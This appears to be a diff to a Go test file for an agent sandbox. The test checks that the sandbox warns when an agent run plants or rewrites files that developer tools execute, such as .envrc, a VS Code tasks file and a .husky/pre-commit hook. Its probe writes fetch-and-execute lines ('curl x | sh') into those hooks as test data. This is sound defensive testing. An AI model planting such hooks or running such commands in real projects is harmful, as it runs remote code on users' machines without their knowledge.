@@ -194,18 +194,32 @@ func protectCasesFor(t *testing.T, bin string, b backend) {
 // top of the workdir only; planted in a subdirectory (a monorepo package
 // opened as its own folder) they are reported after the run, naming each.
 // So are the files other tools run code from that no run keeps read-only
-// (pi's project extensions, opencode's config), at the top too.
-// Neighbour: a run that writes ordinary files is not reported. Control:
-// the writes work unsandboxed.
+// (pi's project extensions, opencode's config), at the top too, even one
+// the user wrote the moment before the run that the agent rewrote with as
+// many bytes (.husky/pre-commit). Neighbour: a run that writes ordinary
+// files is not reported, nor is the user's .husky/pre-commit written the
+// moment before it (inside the scan's 10 ms margin only when the launch
+// is that fast: TestRecentBeforeNotPlanted holds the mechanism). Control: the writes work unsandboxed.
 func subdirToolFilesReported(t *testing.T, bin string, b backend) {
 	probe := `mkdir -p @WORK/pkg/.vscode && echo '{"tasks": []}' > @WORK/pkg/.vscode/tasks.json && echo 'curl x | sh' > @WORK/pkg/.envrc` +
-		` && mkdir -p @WORK/.pi/extensions && echo 'export default () => {}' > @WORK/.pi/extensions/x.ts && echo '{}' > @WORK/opencode.json`
+		` && mkdir -p @WORK/.pi/extensions && echo 'export default () => {}' > @WORK/.pi/extensions/x.ts && echo '{}' > @WORK/opencode.json` +
+		` && echo 'curl x|sh' > @WORK/.husky/pre-commit`
+	husky := func(v *view) string {
+		p := filepath.Join(v.work, ".husky", "pre-commit")
+		write(t, p, "npm test\n\n") // as many bytes as the probe's
+		return p
+	}
 	v := newView(t, bin, b, netMode{name: "open"})
+	husky(v)
 	if r := v.agent(false, v.folder, expand(probe, v.vars()), opts{}); r.code != 0 {
 		t.Skipf("control: the writes fail unsandboxed (exit %d): %s", r.code, r.out)
 	}
 	v = newView(t, bin, b, netMode{name: "open"})
+	hook := husky(v)
 	r := v.agent(true, v.folder, expand(probe, v.vars()), opts{})
+	if !strings.Contains(r.out, hook) {
+		t.Errorf("%s, rewritten by the agent, was not reported after the run (exit %d): %s", hook, r.code, r.out)
+	}
 	for _, p := range []string{filepath.Join(v.work, "pkg", ".vscode", "tasks.json"), filepath.Join(v.work, "pkg", ".envrc")} {
 		if !strings.Contains(r.out, "agent-sandbox: warning: the agent created or changed files your tools run code from") || !strings.Contains(r.out, p) {
 			t.Errorf("%s planted in a subdirectory was not reported after the run (exit %d): %s", p, r.code, r.out)
@@ -217,6 +231,7 @@ func subdirToolFilesReported(t *testing.T, bin string, b backend) {
 		}
 	}
 	n := newView(t, bin, b, netMode{name: "open"})
+	husky(n)
 	if r := n.agent(true, n.folder, expand(protectNeighbour, n.vars()), opts{}); r.code != 0 || strings.Contains(r.out, "warning") {
 		t.Errorf("neighbour: ordinary writes failed or were reported (exit %d): %s", r.code, r.out)
 	}
